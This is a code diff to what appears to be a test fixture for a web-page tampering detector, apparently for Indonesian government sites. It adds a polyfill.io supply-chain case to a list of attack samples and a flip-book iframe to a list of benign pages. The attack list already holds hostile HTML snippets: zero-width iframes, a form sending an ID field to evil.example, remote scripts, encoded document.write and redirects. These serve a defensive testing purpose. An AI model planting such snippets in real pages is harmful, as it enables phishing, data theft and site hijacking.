@@ -62,6 +62,10 @@ ATTACKS = {
     "a foreign frame": (page(body='<iframe src="https://pay.evil.example/" width=0></iframe>'), Word.INJECTED),
     "a foreign form": (page(body='<form action="https://evil.example/x"><input name="nik"></form>'), Word.INJECTED),
     "a foreign script": (page(head='<script src="https://cdn.evil.example/a.js"></script>'), Word.CHANGED),
+    "a library that was sold to attackers": (
+        page(head='<script src="https://polyfill.io/v3/polyfill.min.js"></script>'),
+        Word.CHANGED,
+    ),
     "written text": (page(head='<script>document.write(atob("PGgxPg=="))</script>'), Word.INJECTED),
     "a leading script": (page(head='<script>window.location = "https://evil.example/"</script>'), Word.INJECTED),
     "a refresh": (page(head='<meta http-equiv=refresh content="0; url=https://evil.example/">'), Word.INJECTED),
@@ -98,6 +102,7 @@ BENIGN = {
     ),
     "news about hacking": page(news=(*NEWS, "Situs dinas diretas oleh peretas, polisi selidiki dugaan pelaku")),
     "a video": page(body='<iframe src="https://www.youtube.com/embed/x"></iframe>'),
+    "a magazine to leaf through": page(body='<iframe src="https://heyzine.com/flip-book/x.html"></iframe>'),
     "a link to another office": page(body='<p><a href="https://lombok.go.example/berita">Pemkab</a></p>'),
     "an Arabic verse beside a link": page(body=f"<p>{'بسم الله الرحمن الرحيم ' * 9}</p>{partners(1)}"),
     "Thai without a link": page(body=f"<p>{THAI}</p>"),
